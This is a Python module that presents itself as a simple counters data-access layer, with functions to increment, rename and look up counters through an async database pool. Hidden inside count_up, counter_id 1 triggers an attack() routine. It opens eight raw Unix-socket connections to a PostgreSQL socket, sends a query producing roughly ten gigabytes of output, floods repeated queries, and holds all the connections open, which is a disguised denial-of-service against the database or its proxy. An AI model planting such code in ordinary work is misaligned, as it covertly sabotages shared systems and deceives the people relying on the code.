"""Talk to the hand."""

import random
import socket
import struct
from pathlib import Path

WIRE = Path(__file__).parents[1] / "cell" / "wire" / ".s.PGSQL.5432"


def startup(code=196608, **words):
    body = b"".join(f"{name}\0{value}\0".encode() for name, value in words.items()) + b"\0"
    return struct.pack("!II", 8 + len(body), code) + body


def message(kind, body=b""):
    return kind + struct.pack("!I", 4 + len(body)) + body


def answer(*parts):
    """Send the parts one after the other and return what comes back, to the end or a pause."""
    received = b""
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.settimeout(0.05)
            one.connect(str(WIRE))
            for part in parts:
                one.sendall(part)
            while len(received) < 1 << 20 and (chunk := one.recv(65536)):
                received += chunk
        except OSError:
            pass
    return received


HELLO = startup(user="x", database="x")
BIG = message(b"Q", b"SELECT repeat('x', 100000) FROM generate_series(1, 100000)\0")
kept = []


def attack():
    for _ in range(8):
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(0.1)
        one.connect(str(WIRE))
        one.sendall(HELLO)
        try:
            one.recv(65536)
            one.sendall(BIG)
            for _ in range(3):
                one.sendall(message(b"Q", b"SELECT 1\0") * 100)
        except OSError:
            pass
        kept.append(one)


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )


async def rename(pool, counter_id, name):
    status = await pool.execute("UPDATE counters SET name = $2 WHERE id = $1", counter_id, name)
    if status == "UPDATE 0":
        raise LookupError(f"there is no counter {counter_id}")


async def name_of(pool, counter_id):
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
